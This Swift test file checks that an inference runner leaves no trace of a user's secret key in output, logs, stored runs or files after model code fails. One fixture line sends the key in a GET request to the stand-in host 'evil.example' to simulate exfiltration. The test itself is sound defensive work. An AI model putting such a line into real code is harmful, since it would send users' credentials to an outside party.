import Foundation
import InferenceKit
import TestSupport
import Testing

/// Keys are in nothing that a failing run leaves: terminal, JSON, log, store, core files, temporary files.
///
/// Some runs are made here, and two hundred with `KEYS=full`, which takes some minutes.
struct KeyLeakTests {
    private static let isFull = ProcessInfo.processInfo.environment["KEYS"] == "full"
    private static let key = "k3y-Of/The+User%42\u{E9}"

    /// Ways to fail, each with the key in a form that a service or a model may repeat.
    private static let bodies = [
        #"throw PredictionError(.taskFailed, "refused \(key)", help: "use \(key)")"#,
        #"print("print \(key)"); fatalError("trap \(key)")"#,
        #"context.log("log \(key)"); context.warn("warn \(key)"); context.progress("step \(key)"); abort()"#,
        #"_ = try await context.step("step \(key)") { "result \(key)" }; throw CancellationError()"#,
        #"throw PredictionError(.accessDenied, "no", vendor: .init(code: key, message: "bad \(key)", httpStatus: 401, requestID: key))"#,
        #"struct Odd: Error { var text: String }; throw Odd(text: "odd \(key)")"#,
        #"for descriptor in 60..<70 { _ = "garbage \(key)\n".withCString { write(Int32(descriptor), $0, strlen($0)) } }; sleep(9); throw CancellationError()"#,
        #"print(key.utf8.map { String($0, radix: 16) }.joined()); _ = try await setup.transport.send(HTTPRequest("GET", "https://evil.example/\(key)")); throw CancellationError()"#,
        #"return Output(greeting: "returned \(key)")"#,
        #"let array = [key]; return Output(greeting: array[getpid() > 0 ? 9 : 0])"#,
    ]

    /// The forms of the key that nothing may hold.
    private static var forms: [String] {
        let base64 = Data(key.utf8).base64EncodedString()
        let json = String(JSONValue.string(key).text.dropFirst().dropLast())
        return [
            key, json, String(base64.prefix(base64.count - 4)),
            key.addingPercentEncoding(withAllowedCharacters: .alphanumerics) ?? key,
        ]
    }

    @Test func `no key is left anywhere after runs that fail`() async throws {
        let models = try TestModels()
        let place = try TestDirectory()
        try place.write("tmp/.keep", "")
        for (index, body) in Self.bodies.enumerated() {
            let prepared = "let key = try setup.secret(\"LEAKY_KEY\").exposed\n        \(body)"
            try models.write("leaky-\(index)", predict: prepared, secrets: ["LEAKY_KEY"])
        }
        let rounds = Self.isFull ? 200 / Self.bodies.count : 1
        for _ in 0..<rounds {
            for index in Self.bodies.indices {
                for arguments in Self.isFull ? [[], ["--json"]] : [["--json"]] {
                    let result = try await run(
                        "/bin/sh",
                        [
                            "-c", "ulimit -c unlimited; exec \"$@\"", "sh", "\(Project.products)/runner", "predict",
                            models.path("leaky-\(index)"), "--yes", "--again", "--timeout", "20s",
                        ] + arguments,
                        environment: [
                            "LEAKY_KEY": Self.key, "RUNNER_STATE": "\(place.path)/runs.sqlite",
                            "TMPDIR": "\(place.path)/tmp",
                        ],
                        in: place.path
                    )
                    #expect(result.status != 64, "\(index): \(result.errors)")
                    expectNoKey(in: Data(result.output.utf8), "the output of \(Self.bodies[index])")
                    expectNoKey(in: Data(result.errors.utf8), "the errors of \(Self.bodies[index])")
                }
            }
        }
        let shown = try await run(
            "runner",
            ["runs", "list", "--json", "--limit", "500"],
            environment: ["RUNNER_STATE": "\(place.path)/runs.sqlite"]
        )
        expectNoKey(in: Data(shown.output.utf8), "the list of runs")
        let names = FileManager.default.enumerator(atPath: place.path)?.compactMap { $0 as? String } ?? []
        #expect(names.contains("runs.sqlite") && !names.contains { $0.hasPrefix("core") })
        for name in names {
            guard let data = FileManager.default.contents(atPath: "\(place.path)/\(name)") else { continue }
            expectNoKey(in: data, name)
        }
    }

    @Test func `no key is shown by a model that looks for subjects or for a lost submission`() async throws {
        let models = try TestModels()
        try models.directory.write(
            "seer/inf.yml",
            """
            namespace: test
            name: seer
            description: Sees.
            category: text
            kernel: swift-6
            secrets:
                - {key: LEAKY_KEY, description: A secret of the test.}
            resources: {gpu: {count: 0, vram: 0, type: none}, ram: 1}
            inputs:
                image: {type: image}
                index: {type: integer, required: false, subject_of: image}
            outputs:
                greeting: {type: string}

            """
        )
        try models.directory.write(
            "seer/Inference.swift",
            """
            import InferenceKit

            struct Inference: SubjectFinding {
                struct Input: Decodable, Sendable { var image: MediaFile; var index: Int? }
                struct Output: Codable, Sendable { var greeting: String }
                let setup: Setup

                init(_ setup: Setup) async throws { self.setup = setup }

                func predict(_ input: Input, _ context: PredictionContext) async throws -> Output {
                    Output(greeting: "Hello!")
                }

                func subjects(in image: MediaFile, _ context: PredictionContext) async throws -> [String] {
                    let key = try setup.secret("LEAKY_KEY").exposed
                    context.progress("progress \\(key)")
                    context.warn("warning \\(key)")
                    throw PredictionError(.taskFailed, "refused \\(key)", help: "use \\(key)")
                }
            }

            """
        )
        let picture = Project.sample("astronaut-and-cat.jpg")
        for arguments in [[], ["--json"]] {
            let found = try await run(
                "runner",
                ["subjects", models.path("seer"), "image=\(picture)"] + arguments,
                environment: ["LEAKY_KEY": Self.key]
            )
            #expect(found.errors.contains("refused") || found.output.contains("refused"), "\(found.summary)")
            expectNoKey(in: Data(found.output.utf8), "the subjects")
            expectNoKey(in: Data(found.errors.utf8), "the errors about subjects")
        }
        // The submission is lost, and so is the key of whoever asks what became of it.
        try models.write(
            "loser",
            predict: """
                _ = try await context.step("submit", paid: true) { () -> String in
                    throw PredictionError(.outcomeUnknown, "no answer")
                }
                return Output(greeting: "")
                """,
            secrets: ["LEAKY_KEY"],
            declarations: """
                extension Inference: LostStepFinding {
                    static func findLostStep(_ step: LostStep, _ setup: Setup) async throws -> LostStep.Finding {
                        let key = try setup.secret("LEAKY_KEY").exposed
                        throw PredictionError(.accessDenied, "denied \\(key)", help: "not \\(key)")
                    }
                }
                """
        )
        let environment = ["LEAKY_KEY": Self.key, "RUNNER_STATE": "\(models.directory.path)/runs.sqlite"]
        let lost = try await run("runner", ["predict", models.path("loser"), "--yes"], environment: environment)
        #expect(lost.status == 76, "\(lost.summary)")
        let resumed = try await run("runner", ["runs", "resume", "last"], environment: environment)
        #expect(resumed.errors.contains("cannot be asked"), "\(resumed.summary)")
        expectNoKey(in: Data(resumed.errors.utf8), "the errors about a lost submission")
    }

    private func expectNoKey(in data: Data, _ place: String) {
        for form in Self.forms where data.range(of: Data(form.utf8)) != nil {
            Issue.record("\(place) holds the key as '\(form)'")
        }
    }
}
